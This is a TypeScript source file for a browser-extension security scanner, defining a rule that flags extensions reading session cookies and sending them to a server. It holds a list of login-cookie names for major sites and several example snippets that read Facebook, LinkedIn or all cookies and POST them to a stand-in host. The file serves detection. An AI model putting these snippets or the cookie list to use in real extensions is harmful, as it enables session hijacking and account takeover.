import { callsOf, constant, nameOf, propertyOf, type Call, type ScriptFacts } from '../../facts/javascript/query.ts';
import { defineRule } from '../../rule.ts';
import { isSentBack } from '../../verdict/isSentBack.ts';
import { isSentToTheirs } from '../../verdict/isSentToTheirs.ts';
import { backgroundExample, checkScripts } from './checkScripts.ts';
import { textsOf } from './textsOf.ts';
import { sendingsOf, sentFrom } from './flowOut.ts';
import { say } from '../../../texts/say.ts';

/** Names of the cookies that are a log-in at widely used sites, from their public documentation and published reports. */
const SESSIONS: ReadonlySet<string> = new Set([
  'c_user',
  'xs',
  'auth_token',
  'ct0',
  'li_at',
  'sessionid',
  'SAPISID',
  '__Secure-1PSID',
  '__Secure-3PSID',
  '__Secure-1PAPISID',
  'SSID',
  'HSID',
  '.ROBLOSECURITY',
  'user_session',
  '__Host-user_session_same_site',
  'steamLoginSecure',
  'ESTSAUTH',
  'ESTSAUTHPERSISTENT',
  'at-main',
  'sess-at-main',
  'JSESSIONID',
  'PHPSESSID',
  'NetflixId',
  'sp_dc',
  'reddit_session',
  'sid_tt',
  'sessionid_ss',
  'MUID',
  '__Secure-next-auth.session-token',
  'WHMCS',
  'logged_in',
  'connect.sid',
]);
/** The number of an account, which opens nothing alone. */
const ACCOUNT = 'c_user';
/** They only count beside another one: so common are they as words, and so little says that number. */
const COMMON: ReadonlySet<string> = new Set([
  ACCOUNT,
  'xs',
  'sessionid',
  'auth_token',
  'logged_in',
  'MUID',
  'SSID',
  'HSID',
  'JSESSIONID',
  'PHPSESSID',
  'connect.sid',
]);

/** Whether a reading of cookies is limited by one of these. */
const asks = (script: ScriptFacts, call: Call, ...names: readonly string[]): boolean =>
  names.some((name) => propertyOf(script, call.args[0] ?? 0, name) !== 0);

export const sessionCookiesTaken = defineRule({
  id: 'session-cookies-taken',
  title: 'Reads session cookies and sends them away',
  severity: 'critical',
  confidence: 'high',
  category: 'privacy',
  applies: 'extension',
  cwe: 'CWE-522',
  references: ['https://attack.mitre.org/techniques/T1539/'],
  why: 'Whoever has the cookie is signed in, without a password or second factor. Hijacked extensions used exactly this to take over business accounts.',
  remedy: 'Do not read session cookies, and never send them. Let requests carry their own cookies.',
  cap: { grade: 'D', reason: 'it sends session cookies to a server', from: 'critical' },
  check: checkScripts(function* ({ script, hit, facts }) {
    const calls = callsOf(
      script,
      'chrome.cookies.getAll',
      'chrome.cookies.get',
      'chrome.cookies.onChanged.addListener',
    );
    if (calls.length === 0) return;
    const named = namedSessions(script);
    for (const call of calls) {
      const asked = constant(script, propertyOf(script, call.args[0] ?? 0, 'name'));
      const own =
        asked !== undefined && SESSIONS.has(asked) && !(asked === ACCOUNT && named.length === 0) ? asked : undefined;
      const out = sentFrom(facts, script, call.value);
      if (out === undefined) {
        if (named.length >= 2)
          yield hit(call.value, {
            severity: 'medium',
            confidence: 'medium',
            message: say('looks-for-session-cookies', named.join(', ')),
          });
        continue;
      }
      if (isSentToTheirs(facts, script, call.value)) continue;
      if (own !== undefined || (asked === undefined && named.length > 0))
        yield hit(call.value, {
          message: say(
            'data-sent-to',
            [...new Set([own, ...named])].filter((name) => name !== undefined).join(', '),
            out,
          ),
        });
      // A single cookie may be the extension's own site's: the table of sendings weighs it.
      else if (asks(script, call, 'name', 'url') || nameOf(script, call.callee) === 'get') continue;
      else if (asks(script, call, 'domain')) {
        // So may those that go back to the very address they were asked for.
        if (!sendingsOf(facts, script, call.value).every((flow) => isSentBack(facts, flow)))
          yield hit(call.value, { severity: 'high', message: say('site-cookies-sent', out) });
      } else yield hit(call.value, { confidence: 'medium', message: say('all-cookies-sent', out) });
    }
  }),
  examples: {
    bad: [
      backgroundExample(
        'chrome.cookies.getAll({ domain: "facebook.com" }, (list) => { const c = list.find((x) => x.name === "c_user"); const x = list.find((y) => y.name === "xs"); fetch("https://x.example/c", { method: "POST", body: JSON.stringify({ c: c.value, x: x.value }) }); });',
      ),
      backgroundExample(
        'chrome.cookies.get({ url: "https://www.linkedin.com", name: "li_at" }, function (c) { const r = new XMLHttpRequest(); r.open("POST", "https://x.example/s"); r.send(c.value); });',
      ),
      backgroundExample(
        'async function grab() { const all = await chrome.cookies.getAll({}); await fetch("https://x.example/all", { method: "POST", body: JSON.stringify(all) }); } grab();',
      ),
      backgroundExample(
        'const names = ["__Secure-1PSID", "SAPISID"]; chrome.cookies.getAll({ domain: ".google.com" }, (l) => keep(l.filter((c) => names.includes(c.name))));',
      ),
      backgroundExample(
        'const read = async (name) => (await chrome.cookies.get({ url: "https://www.facebook.com/", name }))?.value; (async () => { const c = await chrome.cookies.get({ url: "https://www.facebook.com/", name: "c_user" }); fetch("https://x.example/c", { method: "POST", body: c.value + (await read("xs")) }); })();',
      ),
    ],
    good: [
      backgroundExample(
        'chrome.cookies.getAll({ domain: "example.com" }, (list) => { for (const c of list) chrome.cookies.remove({ url: "https://example.com" + c.path, name: c.name }); });',
      ),
      backgroundExample(
        'chrome.cookies.get({ url: "https://app.example.com", name: "lang" }, (c) => { show(c.value); fetch("https://app.example.com/ping"); });',
      ),
      backgroundExample(
        'chrome.cookies.get({ url: "https://www.facebook.com/", name: "c_user" }, (c) => fetch("https://x.example/c", { method: "POST", body: c.value }));',
      ),
      backgroundExample('const names = ["c_user", "xs"]; document.cookie.split(";");'),
    ],
  },
});

function namedSessions(script: ScriptFacts): string[] {
  const found = textsOf(script)
    .map(({ text }) => text)
    .filter((text) => SESSIONS.has(text));
  const isBeside = found.includes(ACCOUNT) && new Set(found).size > 1;
  return isBeside || found.some((name) => !COMMON.has(name)) ? found : [];
}
